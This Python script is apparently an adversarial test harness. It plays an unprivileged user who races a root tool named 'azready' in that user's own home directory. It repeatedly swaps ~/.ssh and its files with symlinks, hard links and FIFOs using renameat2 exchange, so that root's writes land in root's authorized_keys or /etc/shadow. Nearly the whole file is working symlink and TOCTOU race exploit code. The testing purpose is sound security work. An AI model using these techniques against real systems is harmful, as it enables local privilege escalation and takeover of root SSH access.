"""A user who races against azready in his own home. usage: attacker.py HOME UID WAY; it runs until it is killed.

Its own names, relative to the home that it is in: it may not be able to reach that by its path.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import random
import shutil
import sys
import time
from pathlib import Path

_libc = ctypes.CDLL(None, use_errno=True)
HERE = -100  # AT_FDCWD
EXCHANGE = 2  # RENAME_EXCHANGE
KEYS = "authorized_keys"
# What a link leads to, where root follows it: files of root.
IMAGE = os.path.dirname(os.path.dirname(sys.argv[1]))
VICTIM = f"{IMAGE}/root/.ssh"
SHADOW = f"{IMAGE}/etc/shadow"
LINKS = {
    KEYS: f"{VICTIM}/{KEYS}",
    f".{KEYS}.azready": f"{VICTIM}/{KEYS}",
    ".new": f"{VICTIM}/{KEYS}",
    "x": SHADOW,
}


def exchange(one: str, other: str) -> None:
    """Both names change places in one step; nothing where one of them is missing."""
    _libc.renameat2(HERE, one.encode(), HERE, other.encode(), EXCHANGE)


def links_in(folder: str) -> None:
    """A directory of the user's in which every name that azready could write to leads elsewhere."""
    with contextlib.suppress(OSError):
        os.mkdir(folder)
    for name, target in LINKS.items():
        with contextlib.suppress(OSError):
            os.symlink(target, f"{folder}/{name}")


def forget(path: str) -> None:
    """Take it away, whatever it is."""
    shutil.rmtree(path, ignore_errors=True)
    with contextlib.suppress(OSError):
        os.unlink(path)


def real_folder() -> None:
    """~/.ssh as it should be."""
    with contextlib.suppress(OSError):
        os.mkdir(".ssh")
    with contextlib.suppress(OSError):
        Path(f".ssh/{KEYS}").write_text("ssh-rsa mine\n")


def folder_for_link() -> None:
    """~/.ssh and a link to root's change places all the time."""
    real_folder()
    with contextlib.suppress(OSError):
        os.symlink(VICTIM, "other")
    for _ in range(random.randint(1, 3000)):
        exchange(".ssh", "other")


def folder_for_folder() -> None:
    """~/.ssh and a directory full of links change places all the time."""
    real_folder()
    links_in("other")
    for _ in range(random.randint(1, 3000)):
        exchange(".ssh", "other")


def file_for_link() -> None:
    """The file and a link to root's change places all the time."""
    real_folder()
    with contextlib.suppress(OSError):
        os.symlink(f"{VICTIM}/{KEYS}", ".ssh/other")
    for _ in range(random.randint(1, 3000)):
        exchange(f".ssh/{KEYS}", ".ssh/other")


def file_for_fifo() -> None:
    """The file and a pipe that nobody writes to change places all the time; whoever opens that waits for ever."""
    real_folder()
    with contextlib.suppress(OSError):
        os.mkfifo(".ssh/other")
    for _ in range(random.randint(1, 3000)):
        exchange(f".ssh/{KEYS}", ".ssh/other")


def folder_is_fifo() -> None:
    """~/.ssh is such a pipe, or the file in it is one."""
    clean()
    with contextlib.suppress(OSError):
        if random.random() < 0.5:
            os.mkfifo(".ssh")
        else:
            os.mkdir(".ssh")
            os.mkfifo(f".ssh/{KEYS}")
    time.sleep(0.2)


def new_name() -> None:
    """Whatever appears in ~/.ssh is exchanged for a link, or a directory of links, at once.

    These lie in ~/.ssh, too: a directory of root's cannot be moved to another one.
    """
    clean()
    real_folder()
    links_in(".ssh/folder")
    with contextlib.suppress(OSError):
        os.symlink(f"{VICTIM}/{KEYS}", ".ssh/link")
    while True:
        with contextlib.suppress(OSError):
            for name in os.listdir(".ssh"):
                if name not in (KEYS, "folder", "link"):
                    exchange(f".ssh/{name}", ".ssh/folder" if os.path.isdir(f".ssh/{name}") else ".ssh/link")
                    time.sleep(0.4)
                    return


def new_folder() -> None:
    """~/.ssh is exchanged for a link as soon as it is made."""
    clean()
    with contextlib.suppress(OSError):
        os.symlink(VICTIM, "other")
    while not os.path.lexists(".ssh"):
        pass
    exchange(".ssh", "other")
    time.sleep(0.4)


def file_for_hard_link() -> None:
    """The file and another name of one of root's change places all the time."""
    real_folder()
    hard_link(random.choice((f"{VICTIM}/{KEYS}", SHADOW)), ".ssh/other")
    for _ in range(random.randint(1, 3000)):
        exchange(f".ssh/{KEYS}", ".ssh/other")
    forget(".ssh/other")


def name_for_hard_link() -> None:
    """Whatever appears in ~/.ssh is exchanged for another name of root's file at once, and so is the file itself."""
    clean()
    real_folder()
    hard_link(SHADOW, ".ssh/link")
    until = time.monotonic() + 1
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            for name in os.listdir(".ssh"):
                if name not in (KEYS, "link"):
                    exchange(f".ssh/{name}", ".ssh/link")
                    time.sleep(0.2)
                    exchange(f".ssh/{KEYS}", ".ssh/link")
                    time.sleep(0.2)
                    return


def hard_link(file: str, name: str) -> None:
    """Kernels let users do it where fs.protected_hardlinks is 0; here the attacker has the right to (`main`)."""
    # ~/.ssh is root's for as long as azready is at work in it.
    with contextlib.suppress(FileExistsError, FileNotFoundError, PermissionError):
        os.link(file, name)


def clean() -> None:
    """Begin with an empty home."""
    for name in os.listdir("."):
        forget(name)


def become(user: int, keep: int) -> None:
    """That user, with these capabilities (a bit for each), none of which passes a start of another program."""
    os.setgroups([])
    os.setgid(user)
    _libc.prctl(8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS
    os.setuid(user)
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)(keep, keep)
    if _libc.capset(header, data):
        raise OSError(ctypes.get_errno(), "capset")


if __name__ == "__main__":
    os.chdir(sys.argv[1])
    # CAP_DAC_READ_SEARCH and CAP_FOWNER: to link files of others is all that they are used for.
    become(int(sys.argv[2]), 1 << 2 | 1 << 3 if "hard_link" in sys.argv[3] else 0)
    if "hard_link" in sys.argv[3]:
        # That he can, or all that follows would prove nothing.
        os.link(SHADOW, "proof")
        forget("proof")
    way = globals()[sys.argv[3]]
    print("ready", flush=True)
    while True:
        way()
        if random.random() < 0.1:
            clean()
